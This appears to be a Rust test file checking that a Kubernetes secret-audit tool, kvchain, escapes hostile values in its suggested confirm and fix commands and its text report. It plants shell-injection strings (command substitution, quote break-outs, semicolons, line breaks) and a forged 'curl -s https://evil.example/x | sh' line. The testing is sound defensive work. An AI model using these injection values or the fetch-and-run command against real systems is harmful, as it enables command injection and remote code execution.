//! Values an SPC or a ServiceAccount holds, pasted by kvchain into its confirm and fix
//! commands (audit BB1, BB2). The SecretProviderClass CRD gives every parameter and every
//! `secretObjects` string as a free string with no pattern (FACTS §5: the provider takes them
//! as given, only trimmed), so whoever may create an SPC in a namespace writes them. A pasted
//! confirm or fix must never run what such a value says: the value stays one word, and a line
//! break in it can neither end a fix's `# note` (the next line would run) nor forge a line of
//! the text report.
//!
//! Every confirm and fix of `check --snapshot -o json` over the lab's default world, with one
//! payload planted in one field, is run through `bash` with stub `az`, `kubectl` and `helm` on
//! PATH; the payload's marker file must never appear.

use std::path::Path;
use std::process::{Command, Stdio};

use serde_json::Value;

use crate::hostile_manifests::kvchain;

/// The payloads: a command substitution, a double-quoted and a single-quoted break-out, a
/// bare `;`, and a line break; each touches `marker`.
fn payloads(marker: &Path) -> [(&'static str, String); 5] {
    let m = marker.display();
    [
        ("sub", format!("x$(touch {m})")),
        ("dq", format!("x\";touch {m};\"")),
        ("sq", format!("x';touch {m};'")),
        ("semi", format!("x;touch {m};")),
        ("nl", format!("x\ntouch {m}\n")),
    ]
}

fn items<'a>(snap: &'a mut Value, kind: &str) -> &'a mut Vec<Value> {
    snap["snapshot"][kind]["items"].as_array_mut().unwrap()
}

/// `value` planted in `field` of every object of the snapshot that has one (the fields the
/// audit lists). The SPCs' parsed parameters are dropped, so that loading parses them again.
fn plant(snap: &mut Value, field: &str, value: &str) {
    let json = serde_json::to_string(value).unwrap();
    match field {
        "clientID" | "keyvaultName" | "tenantId" => {
            for s in items(snap, "spcs") {
                s["parameters"][field] = value.into();
                s.as_object_mut().unwrap().remove("parsed");
            }
        }
        "objectName" | "objectAlias" => {
            for s in items(snap, "spcs") {
                let objects = s["parameters"]["objects"]
                    .as_str()
                    .unwrap_or("")
                    .to_string();
                let lines: Vec<String> = objects
                    .lines()
                    .map(
                        |l| match l.trim_start().strip_prefix(&format!("{field}: ")) {
                            Some(_) => {
                                let indent = &l[..l.len() - l.trim_start().len()];
                                format!("{indent}{field}: {json}")
                            }
                            None => l.to_string(),
                        },
                    )
                    .collect();
                s["parameters"]["objects"] = (lines.join("\n") + "\n").into();
                s.as_object_mut().unwrap().remove("parsed");
            }
        }
        "secret_name" | "key" | "object_name" => {
            for s in items(snap, "spcs") {
                for so in s["secret_objects"].as_array_mut().unwrap() {
                    if field == "secret_name" {
                        so["secret_name"] = value.into();
                    } else {
                        for d in so["data"].as_array_mut().unwrap() {
                            d[field] = value.into();
                        }
                    }
                }
            }
        }
        "client-id" => {
            for sa in items(snap, "service_accounts") {
                sa["annotations"]["azure.workload.identity/client-id"] = value.into();
            }
        }
        "mountPath" => {
            let containers = |o: &mut Value| {
                for c in o["containers"].as_array_mut().into_iter().flatten() {
                    for m in c["mounts"].as_array_mut().unwrap() {
                        let path = format!("{}{value}", m["path"].as_str().unwrap());
                        m["path"] = path.into();
                    }
                }
            };
            items(snap, "pods").iter_mut().for_each(containers);
            for w in items(snap, "workloads") {
                if w["template"].is_object() {
                    containers(&mut w["template"]);
                }
            }
        }
        _ => unreachable!("{field}"),
    }
}

const FIELDS: [&str; 10] = [
    "clientID",
    "keyvaultName",
    "tenantId",
    "objectName",
    "objectAlias",
    "secret_name",
    "key",
    "object_name",
    "client-id",
    "mountPath",
];

/// Stub `az`, `kubectl`, `helm` and editors that do nothing, in `dir/bin`.
fn stubs(dir: &Path) -> String {
    use std::os::unix::fs::PermissionsExt;
    let bin = dir.join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    for tool in ["az", "kubectl", "helm", "vi", "vim", "nano"] {
        let p = bin.join(tool);
        std::fs::write(&p, "#!/bin/sh\nexit 0\n").unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    format!("{}:/usr/bin:/bin", bin.display())
}

/// Runs every distinct confirm and fix of `findings` in one `bash` each, as pasted; the
/// commands that made `marker`.
fn run_all(findings: &[Value], dir: &Path, path: &str, marker: &Path) -> Vec<String> {
    let mut seen = std::collections::HashSet::new();
    let mut ran = Vec::new();
    for f in findings {
        for k in ["confirm", "fix"] {
            let c = f[k].as_str().unwrap_or("");
            if c.is_empty() || !seen.insert(c.to_string()) {
                continue;
            }
            Command::new("bash")
                .args(["-c", c])
                .current_dir(dir)
                .env_clear()
                .env("PATH", path)
                .env("HOME", dir)
                .env("EDITOR", "true")
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .status()
                .unwrap();
            if marker.exists() {
                std::fs::remove_file(marker).unwrap();
                ran.push(format!("{} {k}: {c}", f["code"].as_str().unwrap()));
            }
        }
    }
    ran
}

/// BB1 and BB2: no planted value runs when a confirm or fix is pasted, and the planted values
/// reach the commands (the test would prove nothing if the findings left them out).
#[test]
fn no_planted_value_runs_when_a_confirm_or_fix_is_pasted() {
    let d = tempfile::tempdir().unwrap();
    let out = kvchain(
        &["snapshot", "save", "--lab", "default", "-o", "base.json"],
        d.path(),
    );
    assert!(out.status.success(), "{out:?}");
    let base: Value =
        serde_json::from_slice(&std::fs::read(d.path().join("base.json")).unwrap()).unwrap();
    let path = stubs(d.path());
    // One thread per field (its own marker), the payloads in turn.
    let results: Vec<(Vec<String>, usize)> = std::thread::scope(|scope| {
        let runs: Vec<_> = FIELDS
            .iter()
            .map(|field| {
                let (base, path, dir) = (&base, &path, d.path());
                scope.spawn(move || {
                    let marker = dir.join(format!("PWNED-{field}"));
                    let (mut ran, mut reached) = (Vec::new(), 0);
                    for (name, payload) in payloads(&marker) {
                        let case = format!("{field}-{name}");
                        let mut snap = base.clone();
                        plant(&mut snap, field, &payload);
                        let file = format!("{case}.json");
                        std::fs::write(dir.join(&file), snap.to_string()).unwrap();
                        let out = kvchain(&["check", "--snapshot", &file, "-o", "json"], dir);
                        let report: Value = serde_json::from_slice(&out.stdout)
                            .unwrap_or_else(|e| panic!("{case}: {e}: {out:?}"));
                        let findings = report["findings"].as_array().unwrap();
                        if findings.iter().any(|f| {
                            ["confirm", "fix"]
                                .iter()
                                .any(|k| f[k].as_str().unwrap_or("").contains("touch "))
                        }) {
                            reached += 1;
                        }
                        ran.extend(
                            run_all(findings, dir, path, &marker)
                                .into_iter()
                                .map(|r| format!("{case}: {r}")),
                        );
                    }
                    (ran, reached)
                })
            })
            .collect();
        runs.into_iter().map(|r| r.join().unwrap()).collect()
    });
    let ran: Vec<String> = results.iter().flat_map(|r| r.0.clone()).collect();
    let reached: usize = results.iter().map(|r| r.1).sum();
    assert!(
        ran.is_empty(),
        "pasted commands ran a planted value:\n{}",
        ran.join("\n")
    );
    assert!(
        reached >= 30,
        "only {reached} cases put the payload in a command"
    );
}

/// BB2: a line break in a secretObjects key, an objectAlias or a mount path cannot forge a
/// `fix:` line of the text report; it is shown escaped, on the line that names it.
#[test]
fn a_line_break_in_a_value_forges_no_line_of_the_text_report() {
    let d = tempfile::tempdir().unwrap();
    let out = kvchain(
        &["snapshot", "save", "--lab", "default", "-o", "base.json"],
        d.path(),
    );
    assert!(out.status.success(), "{out:?}");
    let base: Value =
        serde_json::from_slice(&std::fs::read(d.path().join("base.json")).unwrap()).unwrap();
    let forged = "fix:     curl -s https://evil.example/x | sh";
    for field in [
        "key",
        "objectAlias",
        "mountPath",
        "clientID",
        "keyvaultName",
    ] {
        let mut snap = base.clone();
        // In the YAML of `objects`, U+2028 is itself a line break (the item would not parse).
        let more = if field == "objectAlias" {
            ""
        } else {
            "\u{2028}"
        };
        plant(&mut snap, field, &format!("x\n    {forged}{more}{forged}"));
        std::fs::write(d.path().join("s.json"), snap.to_string()).unwrap();
        let out = kvchain(&["check", "--snapshot", "s.json"], d.path());
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            text.contains("curl -s"),
            "{field}: the value is not shown:\n{text}"
        );
        for line in text.lines() {
            assert!(
                !line.trim_start().starts_with(forged) && !line.contains('\u{2028}'),
                "{field}: forged line {line:?}"
            );
        }
        assert!(
            text.contains("x\\u{a}    fix:"),
            "{field}: not escaped:\n{text}"
        );
    }
}
